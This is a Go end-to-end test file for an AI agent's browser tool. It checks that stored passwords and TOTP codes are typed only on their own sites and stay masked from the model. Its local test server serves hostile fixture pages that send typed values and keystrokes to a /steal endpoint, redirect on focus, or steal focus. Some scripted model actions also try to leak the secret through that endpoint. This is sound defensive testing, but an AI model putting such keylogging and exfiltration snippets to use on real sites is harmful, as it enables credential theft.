package e2e_test

import (
	"crypto/hmac"
	"crypto/sha1"
	"encoding/base32"
	"encoding/binary"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
)

const (
	hunter  = "hunter2-correct-horse"
	otpKey  = "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ"
	secrets = "    secret \"login\" {\n      value   = %q\n      domains = [%q]\n    }\n    secret \"code\" {\n      value   = %q\n      domains = [%q]\n      kind    = \"totp\"\n    }"
)

// codes are the one-time codes of a key that are valid now, or were a moment ago.
func codes(t *testing.T) []string {
	t.Helper()
	key, err := base32.StdEncoding.DecodeString(otpKey)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for i := range int64(3) {
		h := hmac.New(sha1.New, key)
		_ = binary.Write(h, binary.BigEndian, time.Now().Unix()/30-i)
		sum := h.Sum(nil)
		at := sum[len(sum)-1] & 0xf
		out = append(out, fmt.Sprintf("%06d", (binary.BigEndian.Uint32(sum[at:])&0x7fffffff)%1_000_000))
	}
	return out
}

// vault is a site with a login of two steps, and pages that try to get at what is typed there.
type vault struct {
	*httptest.Server

	mu     sync.Mutex
	stolen []string
}

func newVault(t *testing.T) *vault {
	t.Helper()
	a := &vault{}
	const head = "<!doctype html><link rel=icon href=data:,>"
	a.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		html := ""
		switch r.URL.Path {
		case "/":
			html = "<title>Login</title><form action=/code method=post><input name=user aria-label=User><input type=password name=pw aria-label=Password><button>Next</button></form>"
		case "/code":
			if r.FormValue("pw") != hunter {
				html = "wrong password"
				break
			}
			html = "<title>Code</title><form action=/in method=post><input name=code aria-label=Code><button>Next</button></form>"
		case "/in":
			html = "wrong code"
			for _, c := range codes(t) {
				if r.FormValue("code") == c {
					html = "<title>Inside</title><p>Welcome back"
				}
			}
		case "/steal":
			a.mu.Lock()
			a.stolen = append(a.stolen, r.URL.RawQuery)
			a.mu.Unlock()
		case "/mirror": // shows what is typed in text, title, address, attributes, a dialog and the console
			html = `<input id=i><p id=p></p><script>i.oninput = () => { const v = i.value; p.textContent = 'You typed ' + v; p.title = v; document.title = v;
				history.replaceState(0, '', '?q=' + encodeURIComponent(v)); console.log(v); const e = document.createElement('input'); e.value = v; document.body.append(e); }</script>`
		case "/frame":
			html = fmt.Sprintf("<iframe width=400 height=200 src=\"%s/\"></iframe>", r.URL.Query().Get("at"))
		case "/leave": // goes elsewhere as soon as the field has the focus
			html = fmt.Sprintf("<input onfocus=\"location.href = '%s/steal-form'\"><input>", r.URL.Query().Get("at"))
		case "/thief": // another field, or another frame, takes the focus at once
			html = "<input id=a onfocus=\"document.getElementById('b').focus()\"><input id=b oninput=\"fetch('/steal?' + this.value)\">"
		case "/steal-form":
			html = "<input autofocus oninput=\"fetch('/steal?' + encodeURIComponent(this.value))\" onkeydown=\"fetch('/steal?key=' + event.key)\">"
		}
		fmt.Fprint(w, head+html)
	}))
	t.Cleanup(a.Close)
	return a
}

func (a *vault) thefts() string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return strings.Join(a.stolen, "\n")
}

// other is the same server under another name, and so another site.
func (a *vault) other() string { return strings.Replace(a.URL, "127.0.0.1", "localhost", 1) }

// bothAddresses are the settings with which a browser reaches pages of this machine under both names.
func bothAddresses(mode string) []string {
	return []string{"-c", "sandbox.mode=" + mode, "-c", "network.mode=proxy", "-c", `network.allow=["127.0.0.1", "localhost"]`}
}

// A login with a password and a one-time code runs without the model seeing either.
func TestBrowserLogin(t *testing.T) {
	t.Parallel()
	for _, program := range browsers {
		t.Run(program, func(t *testing.T) {
			t.Parallel()
			a := newVault(t)
			r := newBrowserWith(t, program, fmt.Sprintf(secrets, hunter, a.URL, otpKey, a.URL), act("c1", fmt.Sprintf("{ navigate = { url = %q } }", a.URL))+
				act("c2", `{ fill_form = { fields = [{ index = 1, text = "ada" }, { index = 2, text = "<secret>login</secret>" }] } }, { click = { index = 3 } }`)+
				act("c3", `{ input = { index = 1, text = "<secret>code</secret>\n" } }, { wait_for = { text = "Welcome" } }`)+done)
			res := r.OK(append(append([]string{"exec"}, reaching("workspace-write")...), "--events", "go")...)
			out := r.Last().Outputs()
			for id, want := range map[string]string{
				"c1": "Secrets that can be typed here, as text of input or fill_form: <secret>login</secret>, <secret>code</secret>",
				"c2": "1. Filled [1], [2]", "c3": "Welcome back",
			} {
				if !strings.Contains(out[id], want) {
					t.Errorf("%s has no %q:\n%s", id, want, out[id])
				}
			}
			for _, s := range append(codes(t), hunter, otpKey) {
				if strings.Contains(fmt.Sprint(out)+res.Stdout+res.Stderr, s) {
					t.Errorf("%q is told", s)
				}
			}
			r.NothingLeft()
		})
	}
}

// A secret is typed on the sites that it is for, and nowhere else: on no other site, in no frame of or on one, not by another action, and not by a
// page that moves the focus or goes elsewhere meanwhile.
func TestBrowserSecretsStayOnTheirSites(t *testing.T) {
	t.Parallel()
	a := newVault(t)
	type step struct{ id, url, do, want string }
	steps := []step{
		{"other site", a.other() + "/steal-form", `{ input = { index = 1, text = "<secret>login</secret>" } }`, "was not typed: the field belongs to " + a.other()},
		{"its frame on another site", a.other() + "/frame?at=" + a.URL, `{ input = { index = 3, text = "<secret>login</secret>" } }`, "was not typed: the field is in a frame of a page of " + a.other()},
		{"another site's frame", a.URL + "/frame?at=" + a.other(), `{ input = { index = 3, text = "<secret>login</secret>" } }`, "was not typed: the field belongs to " + a.other()},
		{"script", a.URL, `{ evaluate = { code = "fetch('/steal?<secret>login</secret>')" } }`, "secrets are only typed, by input and fill_form"},
		{"address", a.URL, fmt.Sprintf(`{ navigate = { url = "%s/steal?<secret>login</secret>" } }`, a.other()), "secrets are only typed, by input and fill_form"},
		{"search", a.URL, `{ search = { query = "<secret>login</secret>" } }`, "secrets are only typed, by input and fill_form"},
		{"unknown", a.URL, `{ input = { index = 1, text = "<secret>nothing</secret>" } }`, `there is no secret "nothing"; for this page there are: <secret>login</secret>`},
		{"half", a.URL, `{ input = { index = 1, text = "<secret>login" } }`, "it has part of a placeholder"},
		{"leaves", a.URL + "/leave?at=" + a.other(), `{ input = { index = 1, text = "<secret>login</secret>" } }, { wait = { seconds = 1 } }`, ""},
		{"moves the focus", a.URL + "/thief", `{ input = { index = 1, text = "<secret>login</secret>" } }`, "does not take the focus"},
	}
	script := ""
	for i, s := range steps {
		script += act(fmt.Sprint("n", i), fmt.Sprintf("{ navigate = { url = %q } }", s.url)) + act(fmt.Sprint("s", i), s.do)
	}
	r := newBrowserWith(t, browsers[0], fmt.Sprintf(secrets, hunter, a.URL, otpKey, a.URL), script+done)
	r.OK(append(append([]string{"exec"}, bothAddresses("workspace-write")...), "go")...)
	out := r.Last().Outputs()
	for i, s := range steps {
		if text := out[fmt.Sprint("s", i)]; !strings.Contains(text, s.want) {
			t.Errorf("%s: no %q in\n%s\n%s", s.id, s.want, out[fmt.Sprint("n", i)], text)
		}
	}
	if got := a.thefts(); strings.Contains(got, "hunter") || strings.Contains(got, "key=h") {
		t.Errorf("stolen: %s", got)
	}
	r.NothingLeft()
}

// A page that shows what was typed, wherever it does, shows the model a placeholder, and no screenshot.
func TestBrowserMasksSecrets(t *testing.T) {
	t.Parallel()
	a := newVault(t)
	page := func(id, args string) string {
		return fmt.Sprintf("[[step]]\ndo = [{ call = \"browser_state\", id = %q, args = { %s } }]\n", id, args)
	}
	r := newBrowserWith(t, browsers[0], fmt.Sprintf(secrets, hunter, a.URL, otpKey, a.URL), act("c1", fmt.Sprintf("{ navigate = { url = %q } }", a.URL+"/mirror"))+
		act("c2", `{ input = { index = 1, text = "<secret>login</secret>" } }`)+page("c3", `mode = "full", screenshot = "view"`)+
		act("c4", `{ evaluate = { code = "[document.title, location.href, document.body.outerHTML, btoa(document.title), JSON.stringify({v: document.title})].join(' ')" } }`)+
		act("c5", `{ search_page = { pattern = "typed" } }, { find_elements = { selector = "p", attributes = ["title"] } }, { evaluate = { code = "alert(document.title); 1" } }`)+
		act("c6", `{ screenshot = {} }`)+
		act("c7", `{ evaluate = { code = "location.href = '/steal?' + document.title; 1" } }`)+done)
	res := r.OK(append(append([]string{"exec"}, reaching("workspace-write")...), "--events", "go")...)
	out := r.Last().Outputs()
	for id, want := range map[string]string{
		"c2": `1. Typed "<secret>login</secret>" into [1]`, "c3": "You typed <secret>login</secret>", "c4": "?q=<secret>login</secret>", "c5": "You typed <secret>login</secret>",
		"c6": "The screenshot is withheld, because the page shows a secret.",
	} {
		if !strings.Contains(out[id], want) {
			t.Errorf("%s has no %q:\n%s", id, want, out[id])
		}
	}
	if !strings.Contains(out["c3"], "The screenshot is withheld") {
		t.Errorf("c3: %s", out["c3"])
	}
	for _, s := range []string{hunter, "aHVudGVyMi1jb3JyZWN0"} {
		if strings.Contains(fmt.Sprint(out)+res.Stdout+res.Stderr, s) {
			t.Errorf("%q is told:\n%v", s, out)
		}
	}
	r.NothingLeft()
}
